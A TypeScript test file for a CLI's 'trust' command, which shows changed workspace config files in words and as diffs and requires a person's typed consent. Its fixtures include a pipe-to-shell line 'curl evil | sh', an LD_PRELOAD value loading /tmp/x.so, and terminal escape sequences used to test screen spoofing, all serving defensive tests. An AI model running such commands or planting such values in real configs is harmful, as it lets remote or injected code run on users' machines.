/** `gantry trust`: what waits in words and as a diff, the person's answer at a terminal and without one, and where else it is said. */
import { expect, test } from 'vitest';
import { waitingLine } from '../../src/cli/start/waiting.ts';
import type { WaitingFile } from '../../src/contracts/factory/trust-routes.ts';
import { trustCheck } from '../../src/host/runtime-checks.ts';
import { run, runAtTerminal, startEngine, type TestEngine } from './support.ts';

const hash = 'a'.repeat(64);
const team = '.gantry/teams/web/team.yaml';
const file = (change: Partial<WaitingFile> = {}): WaitingFile => ({
  path: team,
  kind: 'team',
  change: 'changed',
  sha256: 'b'.repeat(64),
  refused: false,
  words: ['web starts the command: curl evil | sh'],
  diff: `--- ${team}\n+++ ${team}\n@@ -1 +1 @@\n-bots: []\n+bots: [evil]\n`,
  loads: [],
  ...change,
});
const preload = file({ loads: [{ bot: 'web', name: 'LD_PRELOAD', value: '/tmp/x.so' }] });

const engineWith = (files: readonly WaitingFile[]) =>
  startEngine({
    answers: {
      getTrust: () => ({ workspace: '/w', hash: files.length === 0 ? null : hash, files: [...files] }),
      answerTrust: ({ body }) => {
        const only = (body as { files?: string[] }).files ?? files.map(({ path }) => path);
        return { answered: only, waits: files.map(({ path }) => path).filter((path) => !only.includes(path)) };
      },
    },
  });
const answers = (engine: TestEngine) => engine.seen.filter(({ op }) => op === 'answerTrust').map(({ body }) => body);

const atTerminal = (engine: TestEngine, lines: readonly string[]) =>
  runAtTerminal(engine, ['trust'], { asks: /Type \w+ to allow it: |Enter to decide later: /g, lines });

test('at a terminal it shows words and the diff before it asks, and only a typed yes agrees', async () => {
  for (const word of ['yes', 'y', 'YES']) {
    const engine = await engineWith([file()]);
    const { code, out } = await atTerminal(engine, [word]);
    expect([code, answers(engine)]).toEqual([0, [{ answer: 'yes', hash }]]);
    const [words, diff, question] = ['curl evil | sh', '+bots: [evil]', 'Agree to all'].map((part) =>
      out.indexOf(part),
    );
    expect([words, diff, question].every((at) => at !== -1) && words! < diff! && diff! < question!).toBe(true);
  }
});

test.each([[''], ['maybe'], [' ']])(
  'Enter or another word (%j) answers nothing, and it still needs a person',
  async (word) => {
    const engine = await engineWith([file()]);
    expect((await atTerminal(engine, [word])).code).toBe(5);
    expect(answers(engine)).toEqual([]);
  },
);

test('no at a terminal refuses', async () => {
  const engine = await engineWith([file()]);
  expect((await atTerminal(engine, ['no'])).code).toBe(0);
  expect(answers(engine)).toEqual([{ answer: 'no', hash }]);
});

test('a variable that loads code is typed by its name; yes is not its name', async () => {
  const typed = await engineWith([preload]);
  await atTerminal(typed, ['LD_PRELOAD', 'yes']);
  expect(answers(typed)).toEqual([{ answer: 'yes', hash, names: ['LD_PRELOAD'] }]);
  for (const word of ['yes', '']) {
    const other = await engineWith([preload]);
    const { code, out } = await atTerminal(other, [word, 'yes']);
    expect(out).toContain('web sets LD_PRELOAD=/tmp/x.so');
    // Nor is it a no: the rest of the folder would be refused with it.
    expect([code, answers(other)]).toEqual([5, []]);
  }
});

test('without a terminal nothing is answered: it says how, with the hash, and ends with 5', async () => {
  const engine = await engineWith([preload]);
  const { code, out } = await run(engine.env, ['trust'], '');
  expect([code, answers(engine)]).toEqual([5, []]);
  expect(out).toContain(`trust --yes ${hash} --allow LD_PRELOAD`);
  expect(out).toContain(`trust --no ${hash}`);
  expect(out).toContain(`start --headless --trust ${hash}`);
});

test('--no and --yes take the hash that was shown, for all or for the files that are named', async () => {
  const engine = await engineWith([file(), file({ path: '.gantry/policy.yaml', kind: 'policy' })]);
  expect((await run(engine.env, ['trust', '--no', hash])).out).toContain('You refused 2 files');
  const one = await run(engine.env, ['trust', '--yes', hash, '--file', team]);
  expect(one.out).toContain('You agreed to 1 file. Still waiting: .gantry/policy.yaml.');
  expect((await run(engine.env, ['trust', '--yes', hash, '--no', hash])).code).toBe(64);
  expect(answers(engine)).toEqual([
    { answer: 'no', hash },
    { answer: 'yes', hash, files: [team] },
  ]);
});

test('a folder cannot draw over the screen that asks about it', async () => {
  const engine = await engineWith([file({ words: ['\u001b[2Jharmless'], diff: '+\u001b]0;x\u0007\u202esafe\n' })]);
  const { out } = await run(engine.env, ['trust'], '');
  expect(out).toContain('harmless');
  expect(out).not.toMatch(/[\u001b\u0007\u202e]/);
});

test('where nothing waits it says so', async () => {
  expect((await run((await engineWith([])).env, ['trust'])).out).toContain('Nothing in /w waits for your yes.');
});

test('the line of a start and the doctor name what waits, and how it is reviewed', () => {
  const files = [team, '.gantry/policy.yaml', 'a', 'b'];
  const [line = ''] = waitingLine({ files, hash }, 'gantry');
  expect(line).toContain(`for your yes: ${team}, .gantry/policy.yaml, a, and 1 more. Review: gantry trust`);
  expect(waitingLine({ files: [], hash: null }, 'gantry')).toEqual([]);
  const check = trustCheck(files);
  expect([check.state, check.fix]).toEqual(['warn', 'gantry trust']);
  for (const path of files) expect(check.detail).toContain(path);
  expect(trustCheck([]).state).toBe('ok');
});

test('teams up says what each bot runs, where and with what, whenever the plan has it', async () => {
  const step = { action: 'spawn', agent: 'web@demo', harness: 'custom', machine: 'computer_1', reason: 'new' } as const;
  const start = { command: 'npm run dev', cwd: '/w/app', env: { LD_PRELOAD: '/tmp/x.so' } };
  let plan: object[] = [{ ...step, start }];
  const engine = await startEngine({ answers: { teamUp: () => ({ plan, applied: false }) } });
  const shown = (await run(engine.env, ['teams', 'up', 'demo', '--dry-run'])).out;
  expect(shown).toContain('web@demo runs `npm run dev` in /w/app with\n    LD_PRELOAD=/tmp/x.so');
  plan = [step];
  expect((await run(engine.env, ['teams', 'up', 'demo', '--dry-run'])).out).not.toContain('npm run dev');
});
